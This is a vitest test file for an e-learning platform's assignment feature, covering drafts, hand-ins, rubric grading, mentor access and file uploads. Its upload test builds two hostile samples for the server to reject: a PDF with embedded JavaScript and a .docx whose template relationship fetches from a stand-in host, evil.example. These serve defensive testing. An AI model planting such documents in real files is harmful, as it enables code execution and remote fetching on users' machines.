import sharp from 'sharp'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import * as items from '#contracts/authoring/items.ts'
import * as outlines from '#contracts/authoring/outlines.ts'
import * as revisions from '#contracts/authoring/revisions.ts'
import * as grading from '#contracts/learning/marking.office.ts'
import * as contract from '#contracts/learning/assignments.ts'
import { getMyCourse } from '#contracts/learning/player.ts'
import { learnerCourseStatus } from '#contracts/learning/progress.ts'
import { newId } from '#server/platform/crypto.ts'
import { sql } from '#server/platform/postgres/database.ts'
import { type TestLearner, type TestPerson, type World, world } from '#tests/world.ts'
import { zipOf } from '#tests/zip-of.ts'

let w: World
let author: TestPerson
let mentor: Awaited<ReturnType<World['mentor']>>
let learner: TestLearner
let course: Awaited<ReturnType<World['course']>>
let assignment: string
beforeAll(async () => {
  w = await world()
  author = await w.staff('courses.view', 'courses.edit', 'courses.publish')
})
afterAll(() => w.close())

const words = (en: string) => ({ en, fr: '', ar: '', es: '', zh: '', bn: '' })
const [figures, cause] = [newId(), newId()]
const level = (title: string, points: number) => ({ title: words(title), points })
const rubric = [figures, cause].map((id) => ({
  ...{ id, title: words('Criterion') },
  levels: [level('Missing', 0), level('Good', 3), level('Excellent', 5)],
}))
type Changes = (typeof items.patchItem)['body']['_input']['changes']

const change = (changes: Changes) =>
  w.call(items.patchItem, { params: { item: assignment }, body: { changes } }, { as: author })
const publish = () =>
  w.call(revisions.publishCourse, { params: { course: course.course_id }, body: {} }, { as: author })
/** Writes, publishes: what learners see from now on. */
async function publishWith(changes: Changes) {
  await change(changes)
  expect((await publish()).status).toBe(200)
}

beforeEach(async () => {
  course = await w.course()
  mentor = await w.mentor()
  await w.database.run(
    sql`insert into course_mentor (course_id, mentor_id, position) values (${course.course_id}, ${mentor.mentorId}, 1)`,
  )
  const outline = await w.call(outlines.getOutline, { params: { course: course.course_id } }, { as: author })
  const section = outline.body.data.sections[0]?.section_id ?? ''
  const body = { kind: 'assignment' as const, title: words('Count a line'), before: null }
  assignment = (await w.call(items.postItem, { params: { section }, body }, { as: author })).body.data.item_id
  await publishWith({ body: words('<p>Go to a line and count.</p>'), rubric })
  learner = await w.learner()
  await w.enrol(learner.learnerId, course)
})

const params = () => ({ assignment })
const show = async (as: TestPerson = learner) => w.call(contract.getAssignment, { params: params() }, { as })
const write = (text: string) =>
  w.call(contract.putAssignmentDraft, { params: params(), body: { text } }, { as: learner })
const handIn = (body: { text?: string } = { text: '1,150 shirts' }, as: TestPerson = learner) =>
  w.call(contract.handInAssignment, { params: params(), body }, { as })
const waiting = async (as: TestPerson = mentor) =>
  (await w.call(grading.handedInAssignments, { query: {} }, { as })).body.data
const first = async () => (await waiting())[0]?.submission_id ?? ''
const grade = async (marks: Record<string, number>, as: TestPerson = mentor, submission?: string) =>
  w.call(
    grading.gradeAssignment,
    { params: { submission: submission ?? (await first()) }, body: { marks, comment: 'Well counted' } },
    { as },
  )
const give = async (comment: string, as: TestPerson = mentor) =>
  w.call(
    grading.returnAssignment,
    { params: { submission: await first() }, body: { marks: { [figures]: 1 }, comment } },
    { as },
  )
async function upload(kind: string, name: string, bytes: Buffer, as: TestPerson = learner) {
  const response = await w.app.inject({
    method: 'POST',
    url: `/api${contract.postAssignmentFile.path.replace(':assignment', assignment)}`,
    headers: { 'content-type': 'multipart/form-data; boundary=b', authorization: `Bearer ${as.token}` },
    payload: Buffer.concat([
      Buffer.from(`--b\r\nContent-Disposition: form-data; name="kind"\r\n\r\n${kind}\r\n`),
      Buffer.from(`--b\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\n`),
      bytes,
      Buffer.from('\r\n--b--\r\n'),
    ]),
  })
  return { status: response.statusCode, body: response.json() }
}
const photo = () =>
  sharp({ create: { width: 300, height: 200, channels: 3, background: '#a33' } })
    .jpeg()
    .toBuffer()
const pdf = Buffer.from('%PDF-1.4\n%%EOF')
const outlineItem = async () => {
  const { body } = await w.call(getMyCourse, { params: { slug: course.slug } }, { as: learner })
  return {
    course: body.data,
    item: body.data.sections.flatMap((section) => section.items).find(({ id }) => id === assignment),
  }
}

test('a mentor who studies the course grades no work of their own', async () => {
  const own = await w.database.first<{ id: string }>(sql`
    insert into learner (person_id) values (${mentor.personId}) returning id`)
  await w.enrol(own!.id, course)
  const handed = await handIn(undefined, { ...mentor, token: await w.session(mentor.personId, 'learner') })
  expect(handed.status).toBe(200)
  const refused = await grade({ [figures]: 2, [cause]: 2 })
  expect([refused.status, refused.body.error.code]).toEqual([409, 'yourself'])
})

describe('an author', () => {
  test('is told what an assignment lacks before learners see it', async () => {
    await change({ accepts: [], rubric: [{ id: newId(), title: words(''), levels: [] }], body: words('') })
    const { body } = await w.call(items.getItem, { params: { item: assignment } }, { as: author })
    expect(body.data.problems).toEqual(['body', 'accepts', 'rubric'])
    expect((await publish()).status).toBe(409)
  })
  test('may not give an assignment what it has not', async () => {
    expect((await change({ is_preview: true })).status).toBe(422)
  })
})

describe('a learner', () => {
  test('sees what is asked; nobody else does', async () => {
    expect((await show()).body.data).toMatchObject({
      max_points: 10,
      pass_points: 6,
      can_hand_in: true,
      attempts_left: null,
      draft: null,
      rubric: [{ title: 'Criterion', levels: [{ title: 'Missing', points: 0 }, {}, { points: 5 }] }, {}],
    })
    expect((await show(await w.learner())).status).toBe(404)
    expect((await show(mentor)).status).toBe(403)
  })
  test('keeps a draft that nobody else sees, and hands it in once', async () => {
    await write('Line 7')
    expect((await show()).body.data.draft).toMatchObject({ text: 'Line 7', state: 'draft' })
    expect(await waiting()).toEqual([])
    expect((await handIn({})).body.data.state.handed_in).toMatchObject([{ text: 'Line 7', state: 'handed_in' }])
    expect((await handIn()).status).toBe(409)
    expect((await write('More')).status).toBe(409)
    expect(await waiting()).toMatchObject([{ learner_name: learner.name, title: 'Count a line', number: 1 }])
  })
  test('has to hand in something', async () => {
    expect((await handIn({ text: ' ' })).body.errors).toHaveProperty('text')
  })
  test('cannot mark it as complete', async () => {
    const body = { course_id: course.course_id, lecture_id: assignment, completed: true }
    await w.call(learnerCourseStatus, { body }, { as: learner })
    expect((await outlineItem()).item?.is_completed).toBe(false)
  })
  test('adds photographs and files that are what they say, as many as are asked', async () => {
    await publishWith({ most_files: 2 })
    expect((await upload('photo', 'line.jpg', await photo())).body.data).toMatchObject({
      kind: 'photo',
      name: 'line.jpg',
    })
    expect((await upload('photo', 'line.jpg', pdf)).status).toBe(415)
    expect((await upload('file', 'a.exe', pdf)).body.errors).toHaveProperty('file')
    expect((await upload('file', 'a.docx', pdf)).body.errors).toHaveProperty('file')
    const active = Buffer.from('%PDF-1.4\n1 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%%EOF')
    expect((await upload('file', 'a.pdf', active)).body.errors).toEqual({
      file: ['This PDF has programs or files inside. Print it to a new PDF and choose that.'],
    })
    const fetching = await zipOf([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/document.xml', content: '<document/>' },
      {
        name: 'word/_rels/settings.xml.rels',
        content:
          '<Relationships><Relationship Type="http://schemas.example/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
      },
    ])
    expect((await upload('file', 'a.docx', fetching)).body.errors?.file?.[0]).toMatch(/another machine/)
    expect((await upload('file', 'a.pdf', pdf)).status).toBe(200)
    expect((await upload('file', 'b.pdf', pdf)).status).toBe(409)
    expect((await upload('file', 'b.pdf', pdf, await w.learner())).status).toBe(404)
    const [added] = (await show()).body.data.draft?.files ?? []
    const file = { params: { assignment, file: added?.file_id ?? '' } }
    expect((await w.call(contract.deleteAssignmentFile, file, { as: learner })).status).toBe(200)
    expect((await show()).body.data.draft?.files).toMatchObject([{ name: 'a.pdf' }])
  })
  test('has files that only their own session and their mentor’s can fetch, for an hour', async () => {
    await upload('photo', 'line.jpg', await photo())
    await handIn()
    const fetchAs = async (address: string, as?: TestPerson) =>
      (await w.app.inject({ url: address, headers: as ? { authorization: `Bearer ${as.token}` } : {} })).statusCode
    const own = (await show()).body.data.handed_in[0]?.files[0]?.address ?? ''
    expect([await fetchAs(own, learner), await fetchAs(own, mentor), await fetchAs(own)]).toEqual([200, 404, 404])
    const work = await w.call(grading.getHandedIn, { params: { submission: await first() } }, { as: mentor })
    expect(await fetchAs(work.body.data.files[0]?.address ?? '', mentor)).toBe(200)
    expect(await fetchAs(own.replace(/hand-ins\/[0-9a-z]+/, 'hand-ins/1'), learner)).toBe(404)
  })
})

describe('grading', () => {
  test('is for mentors of the course and staff who support learners', async () => {
    await handIn()
    const submission = await first()
    const [other, looker, stranger] = [await w.mentor(), await w.staff('learning.view'), await w.staff('courses.view')]
    expect(await waiting(other)).toEqual([])
    expect((await grade({ [figures]: 2, [cause]: 2 }, other, submission)).status).toBe(404)
    expect((await grade({ [figures]: 2, [cause]: 2 }, learner, submission)).status).toBe(404)
    expect(await waiting(stranger)).toEqual([])
    expect((await waiting(looker)).map(({ submission_id }) => submission_id)).toContain(submission)
    expect((await grade({ [figures]: 2, [cause]: 2 }, looker, submission)).status).toBe(403)
    const office = await w.staff('learning.view', 'learning.edit')
    expect((await grade({ [figures]: 2, [cause]: 2 }, office, submission)).status).toBe(200)
  })
  test('wants a level of each criterion, counts them, completes the item and tells the learner', async () => {
    await handIn()
    const submission = await first()
    expect((await grade({ [figures]: 2 })).body.errors).toHaveProperty(`marks.${cause}`)
    expect((await grade({ [figures]: 2, [cause]: 1 })).body.data).toEqual({ points: 8, is_passed: true, next: null })
    expect((await grade({ [figures]: 2, [cause]: 1 }, mentor, submission)).status).toBe(409)
    expect((await outlineItem()).item).toMatchObject({ is_completed: true, percent: 100 })
    expect((await show()).body.data).toMatchObject({
      is_passed: true,
      can_hand_in: false,
      handed_in: [{ points: 8, comment: 'Well counted', rubric: [{ given: 2 }, { given: 1 }] }],
    })
    const told = await w.database.query<{ purpose: string; text: string }>(
      sql`select purpose, text from message_log where contact = ${learner.email}`,
    )
    expect(told).toMatchObject([{ purpose: 'assignment_graded' }])
    expect(told[0]?.text).toContain('8 of 10')
    const log = await w.database.query(sql`select action from audit_entry where subject_id = ${submission}`)
    expect(log).toEqual([{ action: 'submission.grade' }])
  })
  test('returns work to be improved, with its text and files, which counts as no try', async () => {
    await publishWith({ attempts_allowed: 1 })
    await upload('file', 'a.pdf', pdf)
    await handIn({ text: 'First' })
    expect((await give(' ')).body.errors).toHaveProperty('comment')
    expect((await give('Count the people too')).status).toBe(200)
    const returned = (await show()).body.data
    expect(returned).toMatchObject({
      can_hand_in: true,
      attempts_left: 1,
      draft: { text: 'First', files: [{ name: 'a.pdf' }] },
      handed_in: [{ state: 'returned', comment: 'Count the people too' }],
    })
    // What was handed in first keeps its file when the draft loses it.
    const file = returned.draft?.files[0]?.file_id ?? ''
    await w.call(contract.deleteAssignmentFile, { params: { assignment, file } }, { as: learner })
    const kept = (await show()).body.data.handed_in[0]?.files[0]?.address ?? ''
    const headers = { authorization: `Bearer ${learner.token}` }
    expect((await w.app.inject({ url: kept, headers })).statusCode).toBe(200)
    expect((await handIn({ text: 'Second' })).status).toBe(200)
    expect((await grade({ [figures]: 0, [cause]: 0 })).body.data.is_passed).toBe(false)
    expect((await show()).body.data).toMatchObject({ can_hand_in: false, attempts_left: 0, is_passed: false })
    expect((await outlineItem()).item?.is_completed).toBe(false)
  })
  test('gives points where there is no rubric', async () => {
    await publishWith({ rubric: [], points: 20, pass_percent: 50 })
    await handIn()
    const points = async (given: number | null) =>
      w.call(
        grading.gradeAssignment,
        { params: { submission: await first() }, body: { points: given } },
        { as: mentor },
      )
    expect((await points(null)).body.errors).toHaveProperty('points')
    expect((await points(21)).body.errors).toHaveProperty('points')
    expect((await points(10)).body.data).toMatchObject({ is_passed: true, points: 10 })
  })
  test('goes by the rubric that stood when the work was handed in', async () => {
    await handIn()
    await publishWith({ rubric: [], points: 3 })
    expect((await grade({ [figures]: 2, [cause]: 2 })).body.data).toMatchObject({ points: 10, is_passed: true })
  })
})

describe('what was earned', () => {
  test('stays when the assignment is taken out of the course, and is readable', async () => {
    await handIn()
    const body = { is_retired: true as const }
    await w.call(items.retireItem, { params: { item: assignment }, body }, { as: author })
    await publish()
    expect((await outlineItem()).course.retired).toMatchObject([{ id: assignment, is_completed: false }])
    await grade({ [figures]: 2, [cause]: 2 })
    expect((await outlineItem()).course.retired).toMatchObject([{ id: assignment, is_completed: true }])
    expect((await show()).status).toBe(200)
  })
  test('is what the course is completed by', async () => {
    await w.database.run(sql`update lecture set retired_at = now() where id = ${course.video_id}`)
    await w.database.run(sql`update quiz set retired_at = now() where id = ${course.quiz_id}`)
    const body = { course_id: course.course_id, lecture_id: course.reading_id, completed: true }
    await w.call(learnerCourseStatus, { body }, { as: learner })
    await handIn()
    expect((await outlineItem()).course).toMatchObject({ progress: 50, is_completed: false, certificate_slug: null })
    await grade({ [figures]: 2, [cause]: 2 })
    const after = (await outlineItem()).course
    expect([after.progress, after.is_completed, Boolean(after.certificate_slug)]).toEqual([100, true, true])
  })
})
